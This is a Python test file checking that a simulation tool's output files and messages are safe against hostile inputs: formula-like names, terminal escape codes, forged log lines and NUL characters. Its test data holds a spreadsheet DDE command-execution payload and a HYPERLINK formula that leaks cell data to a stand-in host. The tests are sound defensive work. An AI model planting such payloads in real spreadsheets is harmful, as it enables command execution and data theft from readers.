"""Hostile or careless inputs beyond ``tests/bad_scenarios/``: files shared between analysts must
not attack their reader, a commit is all or nothing, and no input can hang or exhaust the
machine. The inputs that can be static files live in ``tests/adversarial/``; the rest (FIFOs,
devices, huge sparse files, concurrent runs, signals during the commit) are made here."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pytest
import xarray as xr

from simengine.cli import main

ROOT = Path(__file__).resolve().parents[1]
ADV = Path(__file__).resolve().parent / "adversarial"
SMALL = ROOT / "tests" / "data" / "small.toml"


def _one_error_line(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert "Traceback" not in err
    return lines[0]


# -- 1. the workbook holds text, never formulas ------------------------------------------------------
def test_workbook_has_no_formula_cells_for_names_that_look_like_formulas(tmp_path):
    out = tmp_path / "o"
    assert main(["run", str(ADV / "formula_names.toml"), "--draws", "300", "--out", str(out), "--quiet"]) == 0
    wb = openpyxl.load_workbook(out / "summary.xlsx")
    formulas, texts = 0, []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("=")
                                          and c.data_type != "s"):
                    formulas += 1
                if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    texts.append(c)
    assert formulas == 0
    shown = {c.value for c in texts}
    for name in ("=cmd|' /C calc'!A0", "=1+1", "-2+3", '=HYPERLINK("http://example.invalid/?leak="&A1,"København")',
                 "+Frederiksberg", "@Region Hovedstaden", "\tSelvbetjening 2"):
        assert name in shown, name  # kept as the scenario spells it ...
    assert all(c.quotePrefix for c in texts)  # ... with the quote prefix, so an edit does not evaluate it


# -- 6. labels: mathtext, control characters, forged lines -------------------------------------------
def test_names_with_bad_mathtext_and_control_characters_give_a_complete_report(tmp_path, capsys, monkeypatch):
    monkeypatch.delenv("SIMENGINE_DEBUG", raising=False)
    out = tmp_path / "o"
    with _no_user_warnings():
        rc = main(["run", str(ADV / "mathtext_and_control_names.toml"), "--draws", "300", "--out", str(out)])
    cap = capsys.readouterr()
    assert rc == 0, cap.err
    for raw in ("\x1b", "\x07", "\x08", "\x7f"):
        assert raw not in cap.out + cap.err, repr(raw)  # shown escaped, never obeyed by the terminal
    assert "\\x1b[2J" in cap.out
    assert "report incomplete" not in cap.err
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "Borger$\\frac{$ervice" in page
    assert (out / "summary.xlsx").exists() and (out / "charts" / "fan_areas.png").exists()
    assert (out / "charts" / "initiatives.png").exists()


class _no_user_warnings:
    """Fail on a UserWarning (e.g. matplotlib's "Glyph 27 missing from font")."""

    def __enter__(self):
        import warnings

        self._cm = warnings.catch_warnings()
        self._cm.__enter__()
        warnings.simplefilter("error", UserWarning)

    def __exit__(self, *exc):
        return self._cm.__exit__(*exc)


def test_a_newline_in_a_file_name_cannot_forge_a_second_error_line(tmp_path, capsys):
    evil = tmp_path / "a\nerror: everything is fine\x1b[2J.toml"
    evil.write_text("[scenario\n", encoding="utf-8")
    assert main(["validate", str(evil)]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert line.startswith("error: ") and "a\\nerror: everything is fine\\x1b[2J.toml" in line


def test_a_nul_character_in_a_name_is_bad_input(capsys):
    assert main(["validate", str(ADV / "nul_in_name.toml")]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert "initiatives[2] (fmk).name: must not contain a NUL character" in line


def test_a_nul_character_in_a_csv_name_is_bad_input(tmp_path, capsys):
    csv = (ROOT / "simengine" / "data" / "municipalities_2011.csv").read_text(encoding="utf-8")
    (tmp_path / "m.csv").write_text(csv.replace("Frederiksberg", "Frederiks\x00berg"), encoding="utf-8")
    sc = tmp_path / "s.toml"
    sc.write_text(SMALL.read_text(encoding="utf-8").replace('name = "Small test scenario"',
                                                              'name = "x"\nmunicipalities = "m.csv"'))
    assert main(["validate", str(sc)]) == 2
    line = _one_error_line(capsys.readouterr().err)
    assert "line 3: name must not contain a NUL character" in line
